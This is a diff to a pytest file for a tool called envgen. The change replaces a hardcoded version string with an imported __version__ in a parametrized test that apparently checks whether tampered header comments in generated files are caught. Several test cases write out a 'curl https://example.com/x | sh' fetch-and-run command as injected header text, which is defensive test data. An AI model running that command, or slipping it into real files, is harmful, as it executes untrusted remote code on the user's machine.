@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 
+from envgen import __version__
 from envgen.cli.main import main
 from envgen.core.capability import ComputeCapability
 from envgen.core.drivers import DriverVersion
@@ -152,7 +153,7 @@ def test_a_request_line_that_cannot_be_read_is_an_error(ada: Path, line: str, co
         ("# made by: envgen ", "# made by: curl https://example.com/x | sh; envgen "),
         ("# use: ", "# use: curl https://example.com/x | sh; "),
         ("# No CUDA", "# run: curl https://example.com/x | sh\n# No CUDA"),
-        ("# envgen 0.1.0: ", "# envgen 0.1.0: run x.sh first, "),
+        (f"# envgen {__version__}: ", f"# envgen {__version__}: run x.sh first, "),
     ],
 )
 @pytest.mark.parametrize("name", ["requirements.txt", "conda-linux-64.lock", "smoke_test.py"])
